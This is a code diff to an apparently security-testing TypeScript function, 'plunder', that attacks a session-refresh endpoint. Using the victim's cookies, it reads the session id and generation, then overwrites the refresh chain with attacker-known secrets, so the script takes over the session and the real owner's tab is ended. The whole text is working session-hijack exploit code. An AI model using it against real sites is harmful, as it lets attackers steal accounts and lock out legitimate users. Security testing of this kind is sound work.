@@ -39,14 +39,23 @@ async function plunder(base: string): Promise<Loot> {
   const secret = crypto.getRandomValues(new Uint8Array(32))
   const next = text(await crypto.subtle.digest('SHA-256', secret))
   found.push(text(secret.buffer))
-  const sent = [{ generation: null, next }, { generation: 0, secret: text(secret.buffer), next }].map((body) => JSON.stringify(body))
+  const sent: string[] = []
   const answered: string[] = []
-  for (const body of sent) {
+  const ask = async (body: object): Promise<string> => {
+    sent.push(JSON.stringify(body))
     const answer = await fetch(`${base}/api/session/refresh`, {
-      method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json', 'Stay-Mode': 'cookie' }, body
+      method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json', 'Stay-Mode': 'cookie' }, body: JSON.stringify(body)
     })
-    answered.push(`${answer.status} ${JSON.stringify([...answer.headers])} ${await answer.text()}`)
+    const said = await answer.text()
+    answered.push(`${answer.status} ${JSON.stringify([...answer.headers])} ${said}`)
+    return said
   }
+  // What a browser does that lost its storage: the cookie's session goes on from
+  // secrets that this script knows. The owner's tab finds that out, and it ends.
+  const { sid, from, generation } = JSON.parse(await ask({ generation: null })) as { sid: string, from: string, generation: number }
+  const to = generation + 1000
+  await ask({ sid, generation: null, from, to, next })
+  sent.push(JSON.stringify({ sid, generation: to, secret: text(secret.buffer), next: from }))
   return { found: JSON.stringify(found), answered, sent }
 }
 
